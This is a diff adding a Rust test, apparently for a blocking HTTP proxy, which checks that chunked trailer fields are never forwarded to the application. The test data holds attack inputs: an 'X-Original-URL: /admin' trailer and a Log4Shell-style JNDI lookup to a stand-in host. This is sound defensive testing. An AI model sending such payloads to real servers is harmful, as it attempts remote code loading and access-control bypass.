@@ -976,3 +976,32 @@ async fn compressed_bodies_are_judged_decoded_and_forwarded_as_sent() {
     }
     assert_eq!(up.bytes(), before, "the upstream received an attack");
 }
+
+/// Chunked trailer fields are never forwarded: the rules do not see them, so neither may the
+/// application (a trailer `X-Forwarded-For` or `X-Original-URL` that a framework merges into
+/// the headers would pass every check). Small bodies and those over the replay buffer alike.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn trailer_fields_never_reach_the_application() {
+    let up = Upstream::start().await;
+    let p = Proxy::start(up.addr, "mode: block\n").await;
+    let trailers = b"0\r\nX-Original-URL: /admin\r\nX-Api: ${jndi:ldap://evil.example/a}\r\n\r\n";
+    for size in [3usize, 70_000] {
+        let mut raw = b"POST /api/v1/upload HTTP/1.1\r\nHost: app.test\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\nTrailer: X-Original-URL, X-Api\r\n\r\n".to_vec();
+        let body = filler(size, 1);
+        raw.extend_from_slice(format!("{:x}\r\n", body.len()).as_bytes());
+        raw.extend_from_slice(&body);
+        raw.extend_from_slice(b"\r\n");
+        raw.extend_from_slice(trailers);
+        let r = send_raw(p.addr, &raw).await.unwrap();
+        assert_eq!(r.status, 200, "size {size}");
+        let rec = up.last();
+        assert_eq!(rec.body, body, "size {size}");
+        for gone in ["X-Original-URL: ", "X-Api: ", "jndi"] {
+            assert!(
+                find(&rec.raw, gone.as_bytes()).is_none(),
+                "size {size}: {gone} forwarded: {}",
+                String::from_utf8_lossy(&rec.raw[..rec.raw.len().min(400)])
+            );
+        }
+    }
+}
